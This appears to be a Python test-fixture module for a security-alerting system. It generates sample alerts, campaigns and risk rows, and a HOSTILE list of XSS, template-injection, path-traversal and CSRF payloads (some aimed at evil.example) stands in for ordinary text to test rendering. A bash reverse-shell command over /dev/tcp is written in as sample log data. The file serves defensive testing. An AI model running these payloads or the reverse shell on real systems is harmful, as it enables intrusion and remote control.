"""Rows of a small region: alerts and their sums, a campaign, a risk, with the texts that ``Words`` gives."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{7*7}}{% include 'x' %}${7*7}",
    "<style>*{display:none}</style><base href=//evil.example/>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<svg/onload=alert(1)>‮gpj.exe⁦\x00\x1b[31m",
    "../../../etc/passwd?q=%2e%2e#<a href=javascript:alert(1)>",
    "<form action=//evil.example><input name=csrf><button data-act='DELETE /api/v1/users/root'>",
    "<div hx-get=/api/v1/me hx-trigger=load hx-on:click=alert(1)>" + "A" * 3000,
)
RULES = (
    ("Reverse Shell in a Logged Command", "critical", ("attack.execution", "attack.t1059.004", "attack.t1095")),
    ("Password Guessing over SSH", "medium", ("attack.credential_access", "attack.t1110.001")),
    ("Local Account Created", "low", ("attack.persistence", "attack.t1136.001")),
    ("Path Traversal in a Request", "high", ("attack.initial_access", "attack.t1190")),
    ("Service Stopped", "informational", ("attack.impact", "attack.t1489")),
)
SITES = (
    ("plants", "vienna", 48.2, 16.4),
    ("plants", "lisbon", 38.7, -9.1),
    ("plants", "athens", 38.0, 23.7),
    ("plants", "dublin", 53.3, -6.3),
)
RAW = (
    "<85>Nov 21 11:44:32 {host} sudo[900]: root : TTY=pts/0 ; USER=root ; "
    "COMMAND=/bin/bash -i >& /dev/tcp/{ip}/4444 0>&1"
)


class Words:
    """Texts in turn: ``Words(HOSTILE)`` gives an attacker's for every one that is asked for."""

    def __init__(self, hostile: tuple[str, ...] = ()) -> None:
        self._hostile, self._at = hostile, 0

    def __call__(self, plain: str) -> str:
        if not self._hostile:
            return plain
        self._at += 1
        return self._hostile[self._at % len(self._hostile)]


def alert(n: int, rules: list[Any], words: Words, now: datetime) -> dict[str, Any]:
    fleet, site, latitude, longitude = SITES[n % len(SITES)]
    id, title, level, tags = rules[(n * n) % len(rules)]
    at, host, ip = now - timedelta(minutes=41 * n), words(f"web{n % 3}.{site}"), words("198.51.100.23")
    ref = {"log_id": "4cef26b5caf3cd3ecc75fad07585971d", "offset": 322_712 + n, "length": 153}
    correlation = n % 9 == 4
    return {
        "schema_version": 1,
        "alert_id": f"{n:032x}",
        "seq": n,
        "kind": "correlation" if correlation else "detection",
        "rule_id": id,
        "rule_title": title,
        "rule_digest": "d" * 12,
        "level": level,
        "tags": tags,
        "agent_id": f"edge-{site}-1",
        "site": site,
        "fleet": fleet,
        "host": host,
        "event_time": at,
        "detected_at": at,
        "received_date": f"{at:%Y-%m-%d}",
        "source": words("auth"),
        "counted_at": at,
        "received_at": at,
        "batch": "b",
        "logsource": {"product": "linux", "category": None, "service": words("sudo")},
        "fields": {
            words("CommandLine"): words(f"/bin/bash -i >& /dev/tcp/{ip}/4444"),
            "user": words("root"),
            "src_ip": ip,
        },
        "entities": [
            {"kind": "ip", "value": ip},
            {"kind": "user", "value": words("root")},
            {"kind": "host", "value": host},
        ],
        "raw": words(RAW.format(host=host, ip=ip)),
        "raw_ref": ref,
        "count": 3 if correlation else 1,
        "contributing": [{"rule_id": id, "event_time": at, "raw_ref": ref}] if correlation else [],
        "group_by": {words("src_ip"): ip} if correlation else {},
        "first_time": at,
        "last_time": at,
        "bundle": words("linux-8"),
        "flags": [],
        "asset": {"owner": words("web team"), "role": "web", "environment": "production", "criticality": 3},
        "place": {
            "name": words(site.capitalize()),
            "country": "AT",
            "latitude": latitude,
            "longitude": longitude,
            "timezone": "UTC",
        },
        "intel": [
            {
                "kind": "ip",
                "value": ip,
                "indicator": ip,
                "source": words("abuse feed"),
                "threat": words("botnet"),
                "score": 80,
            }
        ]
        if n % 5 == 0
        else [],
        "ingest": {"collector_id": "c", "topic": "t"},
        "window_start": at.replace(minute=at.minute // 5 * 5, second=0, microsecond=0),
        "hour": at.replace(minute=0, second=0, microsecond=0),
    }


def sums(alerts: list[dict[str, Any]], keys: tuple[str, ...]) -> list[dict[str, Any]]:
    rows: dict[tuple[Any, ...], dict[str, Any]] = {}
    for alert in alerts:
        key = tuple(alert[name] for name in keys)
        row = rows.setdefault(
            key,
            {
                **dict(zip(keys, key, strict=True)),
                "alerts": 0,
                "matches": 0,
                "first_time": alert["counted_at"],
                "last_time": alert["counted_at"],
                "date": f"{key[0]:%Y-%m-%d}",
            },
        )
        row["alerts"] += 1
        row["matches"] += alert["count"]
    return list(rows.values())


def campaign(n: int, alerts: list[dict[str, Any]], rules: list[Any], words: Words, now: datetime) -> dict[str, Any]:
    first, places = now - timedelta(hours=20), [f"{fleet}/{site}" for fleet, site, _, _ in SITES]
    value = alerts[n]["entities"][0]["value"]
    tactics = ["initial-access", "credential-access", "execution", "persistence"]
    return {
        "date": f"{first:%Y-%m-%d}",
        "campaign_id": f"c{n}" * 8,
        "kind": "ip",
        "value": value,
        "first_seen": first,
        "last_seen": now,
        "state": "open" if n < 2 else "closed",
        "stage": "execution",
        "score": 96.0 - n * 20,
        "level": ("critical", "high", "medium")[n],
        "alerts": 64,
        "matches": 80,
        "sites": places,
        "rules": [id for id, _, _, _ in rules],
        "tactics": tactics,
        "techniques": ["T1059.004", "T1110.001", "T1190"],
        "steps": [
            {
                "time": first + timedelta(minutes=71 * i),
                "fleet": SITES[i % 4][0],
                "site": SITES[i % 4][1],
                "rule_id": rules[i % 5][0],
                "tactic": tactics[i % 4],
                "alerts": 1 + i % 3,
            }
            for i in range(14)
        ],
        "reason": words("4 sites within 24 h; 3 steps forward, to execution"),
        "updated_at": now,
        "entities": [
            {"kind": "ip", "value": value, "alerts": 40, "tactics": tactics},
            {"kind": "user", "value": words("root"), "alerts": 22, "tactics": ["execution"]},
        ],
        "evidence": 91.0,
        "confidence": 0.94,
        "against": [words("a scanner of ours uses this network")],
        "story": [
            {
                "first": first + timedelta(hours=i),
                "last": first + timedelta(hours=i + 1),
                "tactic": tactic,
                "sites": places[: i + 1],
                "rules": [rules[i][0]],
                "alerts": 5 + i,
            }
            for i, tactic in enumerate(tactics)
        ],
        "new_steps": 4,
    }


def risk(n: int, rules: list[Any], words: Words, now: datetime) -> dict[str, Any]:
    parts = [
        {
            "points": 40.0 / (i + 1),
            "time": now - timedelta(hours=i),
            "rule_id": rules[i][0],
            "level": rules[i][2],
            "tactic": "execution",
            "alerts": 3 + i,
            "why": words("critical, on an asset of criticality 3"),
        }
        for i in range(4)
    ]
    return {
        "as_of": f"{now:%Y-%m-%d}",
        "risk_id": f"r{n}" * 8,
        "kind": ("user", "ip", "host", "device")[n],
        "value": words(("root", "198.51.100.23", "web1.dublin", "meter-33")[n]),
        "scope": "plants/dublin" if n == 2 else "",
        "score": 83.3 - n * 14,
        "threshold": 50.0,
        "usual": 12.0,
        "over": n < 3,
        "level": ("critical", "high", "medium", "low")[n],
        "critical_at": now,
        "alerts": 18,
        "rules": 4,
        "tactics": 3,
        "days": 2,
        "first_seen": now - timedelta(days=2),
        "last_seen": now,
        "contributions": parts,
        "others": 3,
        "others_points": 4.5,
        "reason": words("83 points, threshold 50: a critical alert, and three rules it never met before"),
        "updated_at": now,
    }
